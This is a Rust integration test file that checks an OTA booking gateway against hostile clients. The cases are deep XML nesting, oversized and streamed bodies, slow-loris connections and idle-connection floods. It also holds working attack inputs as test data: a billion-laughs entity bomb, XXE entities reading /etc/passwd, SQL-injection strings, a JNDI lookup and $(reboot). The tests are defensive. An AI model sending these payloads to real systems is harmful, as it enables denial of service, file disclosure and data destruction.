//! Hostile clients over real HTTP: deep nesting, oversized and endless bodies, DOCTYPE entity
//! tricks (billion laughs, XXE), invalid UTF-8, slow-loris clients, thousands of idle
//! connections, and SQL-looking / control-character text in every free-text field. Each hostile
//! request must get a fast, clear answer, and the gateway must keep serving: after each one a
//! normal request is sent and must succeed.

#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]

use crate::support;

use std::net::SocketAddr;
use std::time::{Duration, Instant};

use chrono::Utc;
use ota_gateway::hotels;
use ota_gateway::store::Scalar;
use ota_messages::booking_read::OtaReadRq;
use ota_messages::common::{IdContext, ResStatus};
use ota_messages::hotel_descriptive_info::OtaHotelDescriptiveInfoRs;
use ota_messages::hotel_res_modify::{self as m, OtaHotelResModifyRq, OtaHotelResModifyRs};
use ota_messages::runtime::{Message, Response};
use ota_messages::tour_activity_book::OtaTourActivityBookRs;
use reqwest::StatusCode;
use support::{Backend, TestServer, backend_tests, sample};
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;

const XML: &str = "application/xml";
const MIB: usize = 1024 * 1024;

// ---------------------------------------------------------------------------------------------
// Helpers

/// A normal request (the activity NBC sample, a success): the gateway must still answer it
/// after whatever came before.
async fn assert_serving(server: &TestServer) {
    let started = Instant::now();
    let (status, _, body) = server
        .client()
        .send_raw("/activitynbc", sample("product_descriptive_info"), XML)
        .await
        .expect("a normal request gets an answer");
    let took = started.elapsed();
    assert_eq!(status, StatusCode::OK, "{body}");
    assert!(body.contains("<Success/>"), "{body}");
    // Generous: debug builds on two busy cores (the other tests run at the same time).
    assert!(took < Duration::from_secs(5), "a normal request took {took:?}");
}

/// Posts `body` to `path` (Content-Length) and returns (status, body, time taken).
async fn timed_post(server: &TestServer, path: &str, body: impl Into<reqwest::Body>) -> (StatusCode, String, Duration) {
    let started = Instant::now();
    let (status, _, text) = server.client().send_raw(path, body, XML).await.expect("an answer");
    (status, text, started.elapsed())
}

/// The errors of a hotel NBC answer (panics when it is not one, or a success).
fn nbc_errors(body: &str) -> Vec<ota_messages::common::Error> {
    let rs = OtaHotelDescriptiveInfoRs::from_xml(body).unwrap_or_else(|e| panic!("not an RS: {e}\n{body}"));
    rs.errors().unwrap_or_else(|| panic!("no Errors in\n{body}")).error.clone()
}

/// Reads from `stream` until the server closes the connection (or an error, or `limit`).
/// Returns what was read and whether the connection was closed within `limit`.
async fn read_until_closed(stream: &mut TcpStream, limit: Duration) -> (String, bool) {
    let mut answer = Vec::new();
    let mut buf = vec![0u8; 64 * 1024];
    let deadline = Instant::now() + limit;
    loop {
        let left = deadline.saturating_duration_since(Instant::now());
        match tokio::time::timeout(left, stream.read(&mut buf)).await {
            Err(_) => return (String::from_utf8_lossy(&answer).into_owned(), false),
            Ok(Ok(0)) | Ok(Err(_)) => return (String::from_utf8_lossy(&answer).into_owned(), true),
            Ok(Ok(n)) => answer.extend_from_slice(&buf[..n]),
        }
    }
}

/// The soft limit of open files of this process (from `/proc/self/limits`).
fn open_files_limit() -> Option<u64> {
    let limits = std::fs::read_to_string("/proc/self/limits").ok()?;
    let line = limits.lines().find(|l| l.starts_with("Max open files"))?;
    let soft = line.split_whitespace().nth(3)?;
    if soft == "unlimited" { Some(u64::MAX) } else { soft.parse().ok() }
}

// ---------------------------------------------------------------------------------------------
// Deep nesting

async fn deep_nesting_is_answered_fast(b: Backend) {
    let server = TestServer::start_with(b, |c| c.body_limit = 16 * MIB).await;
    let nbc = sample("hotel_descriptive_info");
    let depth = 100_000;
    let nest = |name: &str| format!("{}{}", format!("<{name}>").repeat(depth), format!("</{name}>").repeat(depth));
    let cases = [
        // Unknown elements after the request's last element.
        (
            "after the last element",
            nbc.replace("</HotelDescriptiveInfos>", &format!("</HotelDescriptiveInfos>{}", nest("a"))),
        ),
        // Inside an element that must be empty.
        (
            "inside an empty element",
            nbc.replace(
                r#"<HotelDescriptiveInfo HotelCode="HTL00105"/>"#,
                &format!(r#"<HotelDescriptiveInfo HotelCode="HTL00105">{}</HotelDescriptiveInfo>"#, nest("a")),
            ),
        ),
        // The request's own element names, nested.
        (
            "known names nested",
            nbc.replace(
                "</HotelDescriptiveInfos>",
                &format!("{}</HotelDescriptiveInfos>", nest("HotelDescriptiveInfos")),
            ),
        ),
        // Inside a text-only element of a booking.
        (
            "inside a text element",
            sample("tour_activity_book")
                .replace("<GivenName>José</GivenName>", &format!("<GivenName>{}</GivenName>", nest("b"))),
        ),
        // Never closed: not well-formed.
        (
            "never closed",
            nbc.replace("</HotelDescriptiveInfos>", &format!("</HotelDescriptiveInfos>{}", "<a>".repeat(depth))),
        ),
        // A whole document of nothing but nesting (wrong root).
        ("nothing but nesting", nest("OTA_HotelDescriptiveInfoRQ")),
    ];
    for (what, body) in cases {
        let path = if what == "inside a text element" { "/activitybook" } else { "/hotelnbc" };
        let (status, text, took) = timed_post(&server, path, body).await;
        println!("deep nesting, {what}: HTTP {status} in {took:?}");
        assert!(status == StatusCode::OK || status == StatusCode::BAD_REQUEST, "{what}: {status}\n{text}");
        assert!(took < Duration::from_secs(1), "{what}: took {took:?}");
        assert!(text.len() < 4096, "{what}: a {} byte answer", text.len());
        assert!(text.contains("<Errors>"), "{what}: {text}");
        assert_serving(&server).await;
    }
}

/// A million levels (7 MB): the same answer, still well under a second in a release build.
/// Ignored in debug builds (about 2 s of CPU there, which slows the other tests); run it with
/// `cargo test --release -p ota-gateway --test it hostile::`.
/// The parser is the same whatever the backend: SQLite only.
#[tokio::test]
#[cfg_attr(debug_assertions, ignore = "release builds only: cargo test --release -p ota-gateway --test it hostile::")]
async fn a_million_levels_of_nesting() {
    let server = TestServer::start_with(Backend::Sqlite, |c| c.body_limit = 16 * MIB).await;
    let nbc = sample("hotel_descriptive_info");
    let body = nbc.replace(
        "</HotelDescriptiveInfos>",
        &format!("</HotelDescriptiveInfos>{}{}", "<a>".repeat(1_000_000), "</a>".repeat(1_000_000)),
    );
    let (status, text, took) = timed_post(&server, "/hotelnbc", body).await;
    println!("deep nesting, 1,000,000 levels: HTTP {status} in {took:?}");
    assert_eq!(status, StatusCode::OK, "{text}");
    assert!(text.contains("<Errors>"), "{text}");
    assert!(took < Duration::from_secs(1), "took {took:?}");
    assert_serving(&server).await;
}

// ---------------------------------------------------------------------------------------------
// Body sizes

/// A valid request padded with a comment to exactly `len` bytes.
fn padded(len: usize) -> String {
    let xml = sample("hotel_descriptive_info");
    let room = len - xml.len() - "<!---->".len();
    format!("{xml}<!--{}-->", "x".repeat(room))
}

async fn bodies_at_and_over_the_limit(b: Backend) {
    let server = TestServer::start(b).await; // 1 MiB
    // Exactly the limit: served.
    let (status, text, _) = timed_post(&server, "/hotelnbc", padded(MIB)).await;
    assert_eq!(status, StatusCode::OK, "{text}");
    // One byte over, with a Content-Length: 413 before anything is read — the head alone is
    // sent (a client sending the body meanwhile may see the closed connection before the
    // answer: a broken pipe, which is the client's race, not an answer).
    let started = Instant::now();
    let mut stream = TcpStream::connect(server.addr()).await.unwrap();
    let head = format!(
        "POST /hotelnbc HTTP/1.1\r\nHost: x\r\nContent-Type: application/xml\r\nContent-Length: {}\r\n\r\n",
        MIB + 1
    );
    stream.write_all(head.as_bytes()).await.unwrap();
    let answer = read_response(&mut stream, Duration::from_secs(5)).await.expect("a 413 without the body");
    let took = started.elapsed();
    assert!(answer.starts_with("HTTP/1.1 413"), "{answer}");
    let text = answer.split_once("\r\n\r\n").map(|(_, body)| body).unwrap_or_default();
    assert!(nbc_errors(text)[0].value.contains(&MIB.to_string()));
    println!("1 MiB + 1 byte (Content-Length): HTTP 413 in {took:?}, the body never sent");
    assert!(took < Duration::from_secs(1), "took {took:?}");
    assert_serving(&server).await;

    // One byte over, chunked (no Content-Length): 413 once the limit is crossed.
    let body = padded(MIB + 1);
    let mut stream = TcpStream::connect(server.addr()).await.unwrap();
    let head =
        "POST /hotelnbc HTTP/1.1\r\nHost: x\r\nContent-Type: application/xml\r\nTransfer-Encoding: chunked\r\n\r\n";
    stream.write_all(head.as_bytes()).await.unwrap();
    for chunk in body.as_bytes().chunks(64 * 1024) {
        if stream.write_all(format!("{:x}\r\n", chunk.len()).as_bytes()).await.is_err()
            || stream.write_all(chunk).await.is_err()
            || stream.write_all(b"\r\n").await.is_err()
        {
            break;
        }
    }
    let _ = stream.write_all(b"0\r\n\r\n").await;
    let answer = read_response(&mut stream, Duration::from_secs(5)).await.expect("a 413 in time");
    assert!(answer.starts_with("HTTP/1.1 413"), "{answer}");
    assert!(answer.contains("<OTA_HotelDescriptiveInfoRS"), "{answer}");
    // The connection is not left hanging: the server has closed it, or (the rest of the body
    // was already in, and drained) it serves the next request on it.
    assert_connection_usable_or_closed(&mut stream).await;
    assert_serving(&server).await;
}

/// Reads one HTTP/1.1 answer with a Content-Length (head and body), or `None` when the
/// connection closes or `limit` passes first.
async fn read_response(stream: &mut TcpStream, limit: Duration) -> Option<String> {
    let deadline = Instant::now() + limit;
    let mut answer = Vec::new();
    let mut buf = vec![0u8; 64 * 1024];
    loop {
        if let Some(end) = answer.windows(4).position(|w| w == b"\r\n\r\n") {
            let head = String::from_utf8_lossy(&answer[..end]).to_ascii_lowercase();
            let len: usize = head
                .lines()
                .find_map(|l| l.strip_prefix("content-length:"))
                .map(|v| v.trim().parse().unwrap())
                .unwrap_or(0);
            if answer.len() >= end + 4 + len {
                return Some(String::from_utf8_lossy(&answer).into_owned());
            }
        }
        match tokio::time::timeout(deadline.saturating_duration_since(Instant::now()), stream.read(&mut buf)).await {
            Ok(Ok(n)) if n > 0 => answer.extend_from_slice(&buf[..n]),
            _ => return None,
        }
    }
}

/// After an error answer: either the server closed the connection, or a normal request on it
/// is answered with a success. Never a connection that hangs.
async fn assert_connection_usable_or_closed(stream: &mut TcpStream) {
    let body = sample("product_descriptive_info");
    let request = format!(
        "POST /activitynbc HTTP/1.1\r\nHost: x\r\nContent-Type: application/xml\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{body}",
        body.len()
    );
    if stream.write_all(request.as_bytes()).await.is_err() {
        return; // closed
    }
    let (answer, closed) = read_until_closed(stream, Duration::from_secs(5)).await;
    assert!(closed, "the connection hangs after an error answer");
    assert!(answer.is_empty() || (answer.starts_with("HTTP/1.1 200") && answer.contains("<Success/>")), "{answer}");
}

/// Streams `total` bytes of body (declared with a Content-Length, or chunked) while reading the
/// answer; returns (answer, time to the first answer byte, bytes the client managed to send,
/// whether the server closed the connection within 5 s).
async fn stream_body(addr: SocketAddr, total: usize, chunked: bool) -> (String, Duration, usize, bool) {
    let stream = TcpStream::connect(addr).await.unwrap();
    let (mut rd, mut wr) = stream.into_split();
    let head = if chunked {
        "POST /hotelnbc HTTP/1.1\r\nHost: x\r\nContent-Type: application/xml\r\nTransfer-Encoding: chunked\r\n\r\n"
            .to_string()
    } else {
        format!(
            "POST /hotelnbc HTTP/1.1\r\nHost: x\r\nContent-Type: application/xml\r\nContent-Length: {total}\r\n\r\n"
        )
    };
    let started = Instant::now();
    let writer = tokio::spawn(async move {
        if wr.write_all(head.as_bytes()).await.is_err() {
            return 0;
        }
        let chunk = vec![b'<'; 64 * 1024];
        let mut sent = 0;
        while sent < total {
            let ok = if chunked {
                wr.write_all(format!("{:x}\r\n", chunk.len()).as_bytes()).await.is_ok()
                    && wr.write_all(&chunk).await.is_ok()
                    && wr.write_all(b"\r\n").await.is_ok()
            } else {
                wr.write_all(&chunk).await.is_ok()
            };
            if !ok {
                break;
            }
            sent += chunk.len();
        }
        sent
    });
    let mut answer = Vec::new();
    let mut first = None;
    let mut buf = vec![0u8; 16 * 1024];
    let deadline = Instant::now() + Duration::from_secs(5);
    let mut closed = false;
    while let Ok(read) =
        tokio::time::timeout(deadline.saturating_duration_since(Instant::now()), rd.read(&mut buf)).await
    {
        match read {
            Ok(0) | Err(_) => {
                closed = true;
                break;
            }
            Ok(n) => {
                first.get_or_insert_with(|| started.elapsed());
                answer.extend_from_slice(&buf[..n]);
            }
        }
    }
    let sent = tokio::time::timeout(Duration::from_secs(30), writer).await.expect("the writer stops").unwrap();
    (String::from_utf8_lossy(&answer).into_owned(), first.unwrap_or(Duration::MAX), sent, closed)
}

async fn fifty_mebibytes_streamed_are_cut_off_with_413(b: Backend) {
    let server = TestServer::start(b).await; // 1 MiB
    for chunked in [false, true] {
        let (answer, took, sent, closed) = stream_body(server.addr(), 50 * MIB, chunked).await;
        let how = if chunked { "chunked" } else { "Content-Length" };
        println!("50 MiB streamed ({how}): 413 after {took:?}, {} KiB sent before the server hung up", sent / 1024);
        assert!(answer.starts_with("HTTP/1.1 413"), "{how}: {answer}");
        assert!(answer.contains("<OTA_HotelDescriptiveInfoRS"), "{how}: {answer}");
        assert!(took < Duration::from_secs(2), "{how}: the 413 took {took:?}");
        assert!(closed, "{how}: the server closes the connection");
        assert!(sent < 50 * MIB, "{how}: the server read the whole body");
        assert_serving(&server).await;
    }
}

// ---------------------------------------------------------------------------------------------
// DOCTYPE: entity expansion and external entities

async fn doctype_entities_are_refused_and_nothing_is_fetched(b: Backend) {
    let server = TestServer::start(b).await;
    // Something to notice an external fetch: a listener that records any connection.
    let trap = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let trap_url = format!("http://{}/evil.dtd", trap.local_addr().unwrap());
    let nbc = sample("hotel_descriptive_info");
    let with_prolog = |prolog: &str, hotel: &str| {
        format!(
            "<?xml version=\"1.0\"?>\n{prolog}\n{}",
            nbc.replace(r#"HotelCode="HTL00042""#, &format!(r#"HotelCode="{hotel}""#))
        )
    };
    let laughs = {
        let mut d = String::from(r#"<!DOCTYPE OTA_HotelDescriptiveInfoRQ [<!ENTITY lol "lol">"#);
        for i in 1..=9 {
            let prev = if i == 1 { "lol".to_string() } else { format!("lol{}", i - 1) };
            d.push_str(&format!(r#"<!ENTITY lol{i} "{}">"#, format!("&{prev};").repeat(10)));
        }
        d.push_str("]>");
        d
    };
    let cases = [
        ("billion laughs", with_prolog(&laughs, "&lol9;")),
        (
            "XXE file",
            with_prolog(
                r#"<!DOCTYPE OTA_HotelDescriptiveInfoRQ [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>"#,
                "&xxe;",
            ),
        ),
        (
            "XXE http",
            with_prolog(
                &format!(r#"<!DOCTYPE OTA_HotelDescriptiveInfoRQ [<!ENTITY xxe SYSTEM "{trap_url}">]>"#),
                "&xxe;",
            ),
        ),
        (
            "parameter entity",
            with_prolog(
                &format!(r#"<!DOCTYPE OTA_HotelDescriptiveInfoRQ [<!ENTITY % p SYSTEM "{trap_url}"> %p;]>"#),
                "HTL00042",
            ),
        ),
        (
            "external DTD",
            with_prolog(&format!(r#"<!DOCTYPE OTA_HotelDescriptiveInfoRQ SYSTEM "{trap_url}">"#), "HTL00042"),
        ),
        ("empty internal subset", with_prolog("<!DOCTYPE OTA_HotelDescriptiveInfoRQ []>", "HTL00042")),
        // No DOCTYPE at all, an undeclared entity: not well-formed.
        ("undeclared entity", with_prolog("", "&xxe;")),
    ];
    let passwd = std::fs::read_to_string("/etc/passwd").unwrap_or_default();
    let first_passwd_line = passwd.lines().next().unwrap_or("root:x:0:0").to_string();
    for (what, body) in cases {
        let (status, text, took) = timed_post(&server, "/hotelnbc", body).await;
        println!("{what}: HTTP {status} in {took:?}");
        assert_eq!(status, StatusCode::BAD_REQUEST, "{what}: {text}");
        assert!(took < Duration::from_secs(1), "{what}: took {took:?}");
        assert!(!text.contains("lollol"), "{what}: an entity was expanded: {text}");
        assert!(
            !text.contains(&first_passwd_line) && !text.contains("root:"),
            "{what}: file contents in the answer: {text}"
        );
        assert!(text.len() < 4096, "{what}: {} bytes", text.len());
        nbc_errors(&text);
        assert_serving(&server).await;
    }
    // Nobody came to fetch the external entities.
    let fetched = tokio::time::timeout(Duration::from_millis(300), trap.accept()).await;
    assert!(fetched.is_err(), "the gateway connected to {trap_url}");
}

// ---------------------------------------------------------------------------------------------
// Encodings

async fn invalid_utf8_is_400(b: Backend) {
    let server = TestServer::start(b).await;
    let good = sample("product_descriptive_info").into_bytes();
    let splice = |bytes: &[u8]| {
        // In the middle of a text node: the company name.
        let at = good.windows(4).position(|w| w == b"Zo\xc3\xab").unwrap();
        let mut out = good[..at].to_vec();
        out.extend_from_slice(bytes);
        out.extend_from_slice(&good[at..]);
        out
    };
    let mut utf16 = vec![0xff, 0xfe];
    for unit in String::from_utf8(good.clone()).unwrap().encode_utf16() {
        utf16.extend_from_slice(&unit.to_le_bytes());
    }
    let cases: Vec<(&str, Vec<u8>)> = vec![
        ("a stray 0xFF", splice(b"\xff")),
        ("a truncated sequence", splice(b"\xc3")),
        ("an overlong slash", splice(b"\xc0\xaf")),
        ("an encoded surrogate", splice(b"\xed\xa0\x80")),
        ("beyond U+10FFFF", splice(b"\xf4\x90\x80\x80")),
        ("Latin-1, declared", {
            let mut b = b"<?xml version=\"1.0\" encoding=\"ISO-8859-1\"?>".to_vec();
            b.extend_from_slice(&splice(b"Jos\xe9"));
            b
        }),
        ("UTF-16 with a BOM", utf16),
        ("0xFF in an attribute", {
            let s = String::from_utf8(good.clone()).unwrap().replace("LESPMIBKUI", "LESPMI\u{1}");
            let at = s.find("LESPMI\u{1}").unwrap() + 6;
            let mut b = s.into_bytes();
            b[at] = 0xff;
            b
        }),
    ];
    for (what, body) in cases {
        let (status, text, took) = timed_post(&server, "/activitynbc", body).await;
        assert_eq!(status, StatusCode::BAD_REQUEST, "{what}: {text}");
        assert!(took < Duration::from_secs(1), "{what}: took {took:?}");
        assert!(text.contains("<OTA_ProductDescriptiveInfoRS") && text.contains("<Errors>"), "{what}: {text}");
        assert_serving(&server).await;
    }
    // Characters XML 1.0 forbids, as references: not well-formed either.
    for reference in ["&#0;", "&#1;", "&#x1F;", "&#xFFFE;"] {
        let body =
            String::from_utf8(good.clone()).unwrap().replace("Zoë Tours &amp;", &format!("Zoë{reference} Tours &amp;"));
        let (status, text, _) = timed_post(&server, "/activitynbc", body).await;
        assert_eq!(status, StatusCode::BAD_REQUEST, "{reference}: {text}");
    }
    // A surrogate or a code point past U+10FFFF as a reference (`&#xD800;`, `&#x110000;`) is
    // not a legal XML character either, but the XML parser (roxmltree 0.21) reads it as U+FFFD
    // instead of refusing it: accepted, harmless (no invalid `char` can result), and noted in
    // docs/reliability.md.
    for reference in ["&#xD800;", "&#x110000;"] {
        let body =
            String::from_utf8(good.clone()).unwrap().replace("Zoë Tours &amp;", &format!("Zoë{reference} Tours &amp;"));
        let (status, _, _) = timed_post(&server, "/activitynbc", body).await;
        assert!(status == StatusCode::OK || status == StatusCode::BAD_REQUEST, "{reference}: {status}");
    }
    assert_serving(&server).await;
}

// ---------------------------------------------------------------------------------------------
// Slow clients

/// Sends `bytes` one at a time, `every` apart, until the server closes the connection or all
/// are sent. Returns (when the server closed, what it answered) or `None` if it never did
/// within `limit`.
async fn trickle(
    addr: SocketAddr,
    head: Vec<u8>,
    bytes: Vec<u8>,
    every: Duration,
    limit: Duration,
) -> Option<(Duration, String)> {
    let stream = TcpStream::connect(addr).await.unwrap();
    let (mut rd, mut wr) = stream.into_split();
    let started = Instant::now();
    let writer = tokio::spawn(async move {
        if wr.write_all(&head).await.is_err() {
            return;
        }
        for b in bytes {
            if wr.write_all(&[b]).await.is_err() {
                return;
            }
            tokio::time::sleep(every).await;
        }
        // All sent: keep the connection open (a slow reader).
        tokio::time::sleep(Duration::from_secs(60)).await;
    });
    let mut answer = Vec::new();
    let mut buf = vec![0u8; 8192];
    let out = loop {
        match tokio::time::timeout(limit.saturating_sub(started.elapsed()), rd.read(&mut buf)).await {
            Err(_) => break None,
            Ok(Ok(0)) | Ok(Err(_)) => break Some((started.elapsed(), String::from_utf8_lossy(&answer).into_owned())),
            Ok(Ok(n)) => answer.extend_from_slice(&buf[..n]),
        }
    };
    writer.abort();
    out
}

async fn slow_clients_are_cut_off_and_others_are_served(b: Backend) {
    let header_timeout = Duration::from_millis(600);
    // Long enough for a normal request on a busy 2-core machine running the other tests (debug).
    let request_timeout = Duration::from_millis(3000);
    let server = TestServer::start_with(b, |c| {
        c.header_read_timeout = header_timeout;
        c.request_timeout = request_timeout;
    })
    .await;
    let addr = server.addr();
    let body = sample("product_descriptive_info");
    let headers = format!(
        "POST /activitynbc HTTP/1.1\r\nHost: gateway.example\r\nContent-Type: application/xml\r\nContent-Length: {}\r\nX-Request-Id: slow-loris\r\n\r\n",
        body.len()
    );
    let every = Duration::from_millis(200);
    let limit = Duration::from_secs(8);
    let mut slow = Vec::new();
    // Ten clients trickling their headers, ten trickling their bodies, all at once.
    for _ in 0..10 {
        slow.push(("headers", tokio::spawn(trickle(addr, Vec::new(), headers.clone().into_bytes(), every, limit))));
        slow.push((
            "body",
            tokio::spawn(trickle(addr, headers.clone().into_bytes(), body.clone().into_bytes(), every, limit)),
        ));
    }
    // Meanwhile, normal requests keep being served.
    let mut normal = Vec::new();
    let until = Instant::now() + Duration::from_millis(1500);
    while Instant::now() < until {
        let started = Instant::now();
        assert_serving(&server).await;
        normal.push(started.elapsed());
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
    normal.sort();
    println!("normal requests during the slow-loris: {} served, max {:?}", normal.len(), normal.last().unwrap());
    let mut closed = (Vec::new(), Vec::new());
    for (what, task) in slow {
        let (closed_after, answer) =
            task.await.unwrap().unwrap_or_else(|| panic!("slow {what}: the connection was never closed"));
        if what == "headers" { &mut closed.0 } else { &mut closed.1 }.push(closed_after);
        match what {
            "headers" => {
                // Dropped by the header read time-out, long before the headers were complete.
                assert!(
                    closed_after >= header_timeout.saturating_sub(Duration::from_millis(50)),
                    "headers: closed after {closed_after:?}"
                );
                assert!(
                    closed_after < header_timeout + Duration::from_millis(1500),
                    "headers: closed after {closed_after:?}"
                );
                assert!(answer.is_empty() || answer.starts_with("HTTP/1.1 408"), "headers: {answer}");
            }
            _ => {
                // 408 by the request time-out, with an OTA body, then closed.
                assert!(answer.starts_with("HTTP/1.1 408"), "body: {answer}");
                assert!(answer.contains("<OTA_ProductDescriptiveInfoRS"), "body: {answer}");
                assert!(
                    closed_after < request_timeout + Duration::from_millis(1500),
                    "body: closed after {closed_after:?}"
                );
            }
        }
    }
    closed.0.sort();
    closed.1.sort();
    println!(
        "slow headers closed after {:?}..{:?} (header time-out {header_timeout:?}); slow bodies answered 408 and closed after {:?}..{:?} (request time-out {request_timeout:?})",
        closed.0[0],
        closed.0[closed.0.len() - 1],
        closed.1[0],
        closed.1[closed.1.len() - 1]
    );
    assert_serving(&server).await;
}

// ---------------------------------------------------------------------------------------------
// Many idle connections

async fn two_thousand_idle_connections(b: Backend) {
    const IDLE: usize = 2000;
    // Each idle connection costs two descriptors here (the client's and the server's end).
    let needed = (2 * IDLE + 256) as u64;
    match open_files_limit() {
        Some(limit) if limit >= needed => {}
        other => {
            eprintln!(
                "SKIPPED two_thousand_idle_connections: the open-files limit is {other:?}, {needed} are needed; raise it (ulimit -n {needed}) and run again"
            );
            return;
        }
    }
    let server = TestServer::start_with(b, |c| c.header_read_timeout = Duration::from_secs(60)).await;
    let started = Instant::now();
    let mut idle = Vec::with_capacity(IDLE);
    for _ in 0..IDLE {
        idle.push(TcpStream::connect(server.addr()).await.unwrap());
    }
    println!("{IDLE} idle connections opened in {:?}", started.elapsed());
    // Normal requests, sequential and concurrent, on new connections.
    for _ in 0..10 {
        assert_serving(&server).await;
    }
    let mut tasks = Vec::new();
    for _ in 0..50 {
        let client = server.client();
        tasks.push(tokio::spawn(async move {
            let started = Instant::now();
            let (status, _, body) =
                client.send_raw("/activitynbc", sample("product_descriptive_info"), XML).await.unwrap();
            assert_eq!(status, StatusCode::OK);
            assert!(body.contains("<Success/>"));
            started.elapsed()
        }));
    }
    let mut took = Vec::new();
    for t in tasks {
        took.push(t.await.unwrap());
    }
    took.sort();
    println!("50 concurrent requests beside {IDLE} idle connections: median {:?}, max {:?}", took[25], took[49]);
    assert!(took[49] < Duration::from_secs(5));
    // The idle connections were accepted and are live: a request on some of them is answered.
    let body = sample("product_descriptive_info");
    let request = format!(
        "POST /activitynbc HTTP/1.1\r\nHost: x\r\nContent-Type: application/xml\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{body}",
        body.len()
    );
    for stream in idle.iter_mut().step_by(100) {
        stream.write_all(request.as_bytes()).await.unwrap();
        let (answer, closed) = read_until_closed(stream, Duration::from_secs(5)).await;
        assert!(closed && answer.starts_with("HTTP/1.1 200") && answer.contains("<Success/>"), "{answer}");
    }
    drop(idle);
    assert_serving(&server).await;
}

async fn idle_connections_are_closed_by_the_header_time_out(b: Backend) {
    let server = TestServer::start_with(b, |c| c.header_read_timeout = Duration::from_millis(500)).await;
    let mut idle = Vec::new();
    for _ in 0..200 {
        idle.push(TcpStream::connect(server.addr()).await.unwrap());
    }
    let started = Instant::now();
    for stream in &mut idle {
        let (_, closed) = read_until_closed(stream, Duration::from_secs(3)).await;
        assert!(closed, "an idle connection was still open after {:?}", started.elapsed());
    }
    println!("200 idle connections closed within {:?}", started.elapsed());
    assert_serving(&server).await;
}

// ---------------------------------------------------------------------------------------------
// SQL-looking and control-character text

/// Strings that break naive SQL, XML or logging code. Each must be stored and read back as is.
fn nasty_strings() -> Vec<&'static str> {
    vec![
        "'; DROP TABLE activity_booking; --",
        "\" OR 1=1 --",
        "Robert'); DELETE FROM activity_allotment WHERE ('1'='1",
        "O'Brien \"The Quote\" `tick`",
        "<script>alert('x')</script> & Co <![CDATA[x]]>",
        "tab\there and a\nnew line",
        "carriage\rreturn",
        "  padded with spaces  ",
        "Zoë Łucja Müller-Señor 東京 🚀 עברית",
        "%_*?[] \\ LIKE wildcards \\' and backslashes",
        "zero\u{200b}width\u{2028}separator\u{feff}bom",
        "$(reboot) ${jndi:ldap://x/a} {{7*7}}",
    ]
}

/// A string as XML text: `&`, `<`, `>` escaped, a carriage return written as `&#13;` (a literal
/// one would be normalised to a line feed by any XML parser), tabs and newlines literal.
fn xml_text(s: &str) -> String {
    s.replace('&', "&amp;").replace('<', "&lt;").replace('>', "&gt;").replace('\r', "&#13;")
}

fn xml_attr(s: &str) -> String {
    xml_text(s).replace('"', "&quot;").replace('\t', "&#9;").replace('\n', "&#10;")
}

/// (GivenName, NamePrefix, Surname) of the booking's one participant.
type Names = (String, String, String);

fn commit_xml(client_ref: &str, date: chrono::NaiveDate, names: &Names) -> String {
    format!(
        r#"<OTA_TourActivityBookRQ xmlns="http://www.opentravel.org/OTA/2003/05" Version="2011.2" ResStatus="Commit"><POS><Source><RequestorID Type="22" ID="DEMO" ID_Context="DEMO-DIST"/></Source><Source><RequestorID Type="88" ID="DEMO" MessagePassword="demo-password"/></Source></POS><BookingInfo><BasicInfo TourActivityID="LESPMIBKUI" SupplierProductCode="TE0CC00A" SupplierServiceCode="TIC"/><ParticipantInfo><Category QualifierInfo="10"/><Individual Age="40" ParticipantID="1"><GivenName>{}</GivenName><NamePrefix>{}</NamePrefix><Surname>{}</Surname></Individual></ParticipantInfo><Schedule Start="{date}T00:00:00" End="{date}T23:59:59"/></BookingInfo><TPA_Extensions><UniqueID Type="36" ID="{}" ID_Context="Client"/></TPA_Extensions></OTA_TourActivityBookRQ>"#,
        xml_text(&names.0),
        xml_text(&names.1),
        xml_text(&names.2),
        xml_attr(client_ref)
    )
}

fn internal_of(rs: &OtaTourActivityBookRs) -> String {
    let d = rs.reservation_details.as_ref().unwrap();
    d.confirmation.iter().find(|c| c.id_context == Some(IdContext::Internal)).unwrap().id.clone()
}

fn names_of(rs: &OtaTourActivityBookRs) -> Names {
    let d = rs.reservation_details.as_ref().unwrap();
    assert_eq!(d.participant_info.len(), 1);
    let ind = d.participant_info[0].individual.as_ref().unwrap();
    (ind.given_name.clone().unwrap(), ind.name_prefix.clone().unwrap(), ind.surname.clone().unwrap())
}

async fn nasty_text_in_activity_bookings_is_stored_verbatim(b: Backend) {
    let server = TestServer::start(b).await;
    let strings = nasty_strings();
    let n = strings.len();
    let date = Utc::now().date_naive() + chrono::Duration::days(12);
    let mut made = Vec::new();
    for k in 0..n {
        // Every string in every field (rotated, so a swap of columns would show); a NamePrefix
        // has at most 16 characters (the spec's length policy).
        let prefix: String = strings[(k + 1) % n].chars().take(16).collect();
        let names: Names = (strings[k].to_string(), prefix, strings[(k + 2) % n].to_string());
        // The Client reference is hostile too (at most 64 characters, trimmed by the gateway).
        let client_ref: String = format!("R{k}-{}", strings[k].trim()).chars().take(64).collect();
        let xml = commit_xml(&client_ref, date, &names);
        let (status, _, body) = server.client().send_raw("/activitybook", xml.clone(), XML).await.unwrap();
        assert_eq!(status, StatusCode::OK, "{body}");
        let rs = OtaTourActivityBookRs::from_xml(&body).unwrap_or_else(|e| panic!("{e}\n{body}"));
        assert!(rs.is_success(), "{k}: {body}");
        assert_eq!(names_of(&rs), names, "the Commit's answer");
        let client_back = rs
            .reservation_details
            .as_ref()
            .unwrap()
            .confirmation
            .iter()
            .find(|c| c.id_context == Some(IdContext::Client))
            .unwrap()
            .id
            .clone();
        assert_eq!(client_back, client_ref.trim());
        // The same Commit again reads the stored booking back: identical.
        let (_, _, again) = server.client().send_raw("/activitybook", xml, XML).await.unwrap();
        let again = OtaTourActivityBookRs::from_xml(&again).unwrap();
        assert!(again.warnings.is_none(), "{again:?}");
        assert_eq!(internal_of(&again), internal_of(&rs));
        assert_eq!(names_of(&again), names, "read back");
        made.push((internal_of(&rs), client_ref.trim().to_string(), names));
        assert_serving(&server).await;
    }
    // In the database: the exact strings, one booking each, and the tables all there.
    ota_gateway::store::row! {
        /// A booking with its one participant's name.
        struct NamedBooking { reference: String, client_reference: String, given_name: String, name_prefix: String, surname: String }
    }
    let rows: Vec<NamedBooking> = server
        .store()
        .read(|c| {
            Box::pin(c.query(
